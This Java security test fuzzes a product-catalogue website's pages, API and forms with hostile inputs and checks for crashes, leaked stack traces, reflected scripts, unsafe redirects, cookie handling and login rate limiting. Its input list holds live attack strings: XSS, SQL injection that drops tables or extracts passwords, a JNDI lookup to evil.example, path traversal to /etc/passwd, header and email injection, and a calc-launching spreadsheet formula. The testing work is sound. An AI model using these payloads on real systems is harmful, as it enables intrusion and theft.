package org.bordercatalogue.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.net.URLEncoder;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;
import org.bordercatalogue.access.Role;
import org.bordercatalogue.access.Scope;
import org.bordercatalogue.web.testing.Client;
import org.bordercatalogue.web.testing.OwnWorkshopExtension;
import org.bordercatalogue.web.testing.Site;
import org.bordercatalogue.web.testing.Workshop;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;

/** Sends what nobody means well by to every page, the API and every form. */
@ExtendWith(OwnWorkshopExtension.class)
class HostileInputTest {
    private static final long SEED = 20_261_122;
    private static final Duration HANGS = Duration.ofSeconds(30);
    private static final int READ = 2_400;
    private static final int SENT = 700;

    /** What would tell of our insides. */
    private static final Pattern INSIDES =
            Pattern.compile(
                    "\\bat org\\.|\\bat java\\.|Exception\\b|SQLITE|org\\.apache|NullPointer");

    /** One of these stands in whatever that pattern finds, and is sooner looked for. */
    private static final List<String> OF_INSIDES =
            List.of("at org.", "at java.", "Exception", "SQLITE", "org.apache", "NullPointer");

    private static final List<String> PLACES =
            List.of(
                    "/products?q=%s",
                    "/products?type=%s",
                    "/products?type=cargo-scanner&steel_penetration=%s",
                    "/products?mobility=%s",
                    "/products?exhibitor=%s",
                    "/products?country=%s",
                    "/products?edition=%s",
                    "/products?sort=%s",
                    "/products?page=%s",
                    "/products?size=%s",
                    "/products?lang=%s",
                    "/products?units=%s",
                    "/products?%s=1",
                    "/products/%s",
                    "/products/filter?q=%s&steel_penetration.from=%s",
                    "/exhibitors/%s",
                    "/editions/%s",
                    "/equipment-types/%s",
                    "/compare?items=%s",
                    "/fit?must=%s",
                    "/fit/read?lines=%s",
                    "/fit/filter?add=%s",
                    "/suggest?q=%s",
                    "/sign-in?next=%s",
                    "/sign-in?done=%s",
                    "/link/%s",
                    "/%s",
                    "/account?done=%s",
                    "/company/%s/people",
                    "/api/v1/products?q=%s",
                    "/api/v1/products?weight=%s",
                    "/api/v1/products?cursor=%s",
                    "/api/v1/products/%s",
                    "/api/v1/compare?items=%s",
                    "/api/v1/fit?must=%s",
                    "/api/v1/suggest?q=%s");

    private static final List<String> FORMS =
            List.of(
                    "/sign-in email password next",
                    "/sign-in/code code",
                    "/register company name email website country",
                    "/password email",
                    "/link name new-password",
                    "/account/profile name language",
                    "/account/password current-password next-password",
                    "/account/address current-password email",
                    "/account/sessions/end session",
                    "/account/second-factor code",
                    "/company/hostile-own/people name email role",
                    "/company/hostile-own/people/change account role",
                    "/company/hostile-own/people/remove account",
                    "/company/hostile-own/people/withdraw invitation",
                    "/organise/registrations name email exhibitor",
                    "/organise/registrations/none/approve into",
                    "/organise/registrations/none/refuse reason",
                    "/administer/accounts name email role types",
                    "/administer/accounts/none act grant");

    private final Workshop workshop;
    private final Random random = new Random(SEED);
    private final List<String> inputs = inputs();

    HostileInputTest(Workshop workshop) {
        this.workshop = workshop;
    }

    @Test
    void nothingThatIsAskedForBreaksAnAnswer() {
        Client everybody = everybody();
        Client visitor = workshop.visitor();
        for (int i = 0; i < READ; i++) {
            String input = input(i);
            String place = PLACES.get(i % PLACES.size());
            String path = place.replace("%s", encoded(input));
            HttpRequest.Builder request =
                    HttpRequest.newBuilder(workshop.site().uri(path)).timeout(HANGS);
            judge((i & 1) == 0 ? visitor.send(request) : everybody.send(request), path, input);
        }
        assertThat(workshop.visitor().get("/products").statusCode()).isEqualTo(200);
    }

    @Test
    void nothingThatIsSentBreaksAForm() {
        Client everybody = everybody();
        String token = everybody.token();
        for (int i = 0; i < SENT; i++) {
            String[] form = FORMS.get(i % FORMS.size()).split(" ", -1);
            String input = input(i * 7);
            StringBuilder body = new StringBuilder("form-token=" + token);
            for (int field = 1; field < form.length; field++) {
                String value = random.nextInt(4) == 0 ? input(random.nextInt(999)) : input;
                body.append('&').append(form[field]).append('=').append(encoded(value));
            }
            HttpResponse<byte[]> answer =
                    everybody.send(
                            HttpRequest.newBuilder(workshop.site().uri(form[0]))
                                    .timeout(HANGS)
                                    .header("Content-Type", "application/x-www-form-urlencoded")
                                    .header("Origin", everybody.origin())
                                    .POST(HttpRequest.BodyPublishers.ofString(body.toString())));
            judge(answer, form[0], input);
        }
    }

    @Test
    void oddBodiesAreRefusedNotChokedOn() {
        Client everybody = everybody();
        String token = everybody.token();
        List<String> bodies =
                List.of(
                        "",
                        "&&&===&&",
                        "form-token=" + token + "&%zz=%zz",
                        "form-token=" + token + "&name=%ff%fe",
                        "form-token=" + token + "&" + "a=1&".repeat(10_000),
                        "form-token=" + token + "&name=" + "x".repeat(200_000),
                        "form-token=" + token + "&form-token=" + token,
                        "form-token=" + token + "&name=a&name=b&email=c&email=d");
        List<String> types =
                List.of(
                        "application/x-www-form-urlencoded",
                        "application/x-www-form-urlencoded; charset=utf-16",
                        "application/x-www-form-urlencoded; charset=nonsense",
                        "application/json",
                        "text/plain",
                        "multipart/form-data",
                        "multipart/form-data; boundary=x",
                        "*/*",
                        "nonsense");
        for (String form : FORMS) {
            String path = form.split(" ", -1)[0];
            for (String type : types) {
                String body = bodies.get(random.nextInt(bodies.size()));
                judge(
                        everybody.send(form(everybody, path, type, body)),
                        path + " as " + type + " " + body.substring(0, Math.min(60, body.length())),
                        "");
            }
        }
    }

    @Test
    void oddCookiesAreNobodys() {
        for (String input : inputs) {
            String value = input.replaceAll("[\\p{Cntrl};,\\s\"\\\\]|[^\\x00-\\x7f]", "x");
            HttpResponse<byte[]> answer =
                    workshop.site().get("/account", "Cookie", "sid=" + value + "; form=" + value);

            assertThat(answer.statusCode()).as(value).isIn(303, 400, 431);
        }
    }

    @Test
    void guessersAreHeldBackAndToldHowLong() {
        Client browser = workshop.visitor();
        HttpResponse<byte[]> answer = guess(browser, 0);
        for (int i = 1; i < 12 && answer.statusCode() != 429; i++) {
            answer = guess(browser, i);
        }

        assertThat(answer.statusCode()).isEqualTo(429);
        assertThat(Long.parseLong(answer.headers().firstValue("Retry-After").orElseThrow()))
                .isBetween(1L, 900L);
        assertThat(Site.text(answer)).contains("Too many attempts for the moment", "then go back");
    }

    private static HttpResponse<byte[]> guess(Client browser, int n) {
        return browser.post("/sign-in", "email", "guessed@held.example", "password", "guess " + n);
    }

    private HttpRequest.Builder form(Client browser, String path, String type, String body) {
        return HttpRequest.newBuilder(workshop.site().uri(path))
                .timeout(HANGS)
                .header("Content-Type", type)
                .header("Origin", browser.origin())
                .POST(HttpRequest.BodyPublishers.ofString(body));
    }

    private Client everybody() {
        return workshop.as(
                new Role.Delegate(),
                new Role.ExhibitorAdmin(workshop.exhibitor("Hostile Own")),
                new Role.Organiser(Scope.ALL, Scope.ALL, true),
                new Role.Administrator());
    }

    private static void judge(HttpResponse<byte[]> answer, String place, String input) {
        String text = Site.text(answer);
        assertThat(answer.statusCode()).as(() -> SEED + ": " + place + "\n" + text).isLessThan(500);
        // The input itself may name what it likes.
        assertThat(tellsOfInsides(text) && !tellsOfInsides(input))
                .as(() -> place + "\n" + text)
                .isFalse();
        String type = answer.headers().firstValue("Content-Type").orElse("");
        if (type.startsWith("text/html") && input.contains("<")) {
            assertThat(text).as(place).doesNotContain(input);
        }
        answer.headers()
                .firstValue("Location")
                .ifPresent(to -> assertThat(to).as(place).startsWith("/a/b/"));
    }

    private static boolean tellsOfInsides(String text) {
        return OF_INSIDES.stream().anyMatch(text::contains) && INSIDES.matcher(text).find();
    }

    private String input(int n) {
        String one = inputs.get(Math.floorMod(n * 31 + n / 7, inputs.size()));
        return random.nextInt(3) == 0 ? one + inputs.get(random.nextInt(inputs.size())) : one;
    }

    private static String encoded(String input) {
        return URLEncoder.encode(input, StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static List<String> inputs() {
        List<String> all = new ArrayList<>();
        all.addAll(
                List.of(
                        "<script>alert(1)</script>",
                        "\"><svg/onload=alert(1)>",
                        "'><img src=x onerror=alert(1)>",
                        "</title><script>alert(1)</script>",
                        "{{constructor.constructor('alert(1)')()}}",
                        "{{this}}",
                        "{{{raw}}}",
                        "{{> layout/page}}",
                        "${7*7}",
                        "#{7*7}",
                        "<%= 7*7 %>",
                        "${jndi:ldap://evil.example/a}",
                        "javascript:alert(1)",
                        "data:text/html,<script>alert(1)</script>",
                        "<!--<b>-->",
                        "<![CDATA[<b>]]>",
                        "&lt;script&gt;",
                        "' OR '1'='1",
                        "'; DROP TABLE account; --",
                        "1; SELECT pg_sleep(10)",
                        "\" OR \"\"=\"",
                        "') UNION SELECT password FROM account --",
                        "{!lucene}standing:draft",
                        "{!join from=a to=b}x",
                        "_query_:\"{!func}1\"",
                        "_val_:\"price\"",
                        "*:*",
                        "a AND OR NOT (",
                        "[* TO *]",
                        "[1 TO",
                        "/(.*a){40}/",
                        "secret_s:x",
                        "\"unclosed",
                        "field:\\",
                        "~2^9",
                        "../../../../etc/passwd",
                        "..\\..\\windows",
                        "%2e%2e%2f",
                        "file:///etc/passwd",
                        "//evil.example",
                        "https://evil.example/",
                        "/\\evil.example",
                        "http:evil.example",
                        "\r\nSet-Cookie: sid=stolen",
                        "\nLocation: https://evil.example",
                        "a\u0000b",
                        "\u0000",
                        "\ud800",
                        "\udc00x",
                        "\ufeff\ufffe\uffff",
                        "\u202egnp.exe",
                        "\u2066\u2069",
                        "e\u0301\u0301\u0301\u0301\u0301",
                        "ﷺ",
                        "😀👩‍👩‍👧‍👦",
                        "ＡＢＣ＜script＞",
                        "İıſß",
                        "سلام",
                        " ",
                        "\t",
                        "",
                        "NaN",
                        "Infinity..",
                        "-1",
                        "0",
                        "99999999999999999999999",
                        "2147483648",
                        "1e400",
                        "1e-400..",
                        "0x10",
                        "300mm..100mm",
                        "..",
                        "..<",
                        "..1e9kg",
                        "300furlong..",
                        "null",
                        "undefined",
                        "true",
                        "[]",
                        "[object Object]",
                        "__proto__",
                        "constructor",
                        "class",
                        "=cmd|' /C calc'!A0",
                        "@SUM(1+1)",
                        "+1-1",
                        "name@agency.example\r\nBcc: all@evil.example",
                        "a@b@c.example",
                        "\"a b\"@agency.example",
                        "a@[127.0.0.1]",
                        "a@localhost",
                        "<a@b.example>",
                        "(".repeat(5_000),
                        "x".repeat(6_000),
                        "a,".repeat(2_000),
                        "é".repeat(1_000),
                        "\\".repeat(500),
                        "\"".repeat(501),
                        "* ".repeat(400)));
        return all;
    }
}
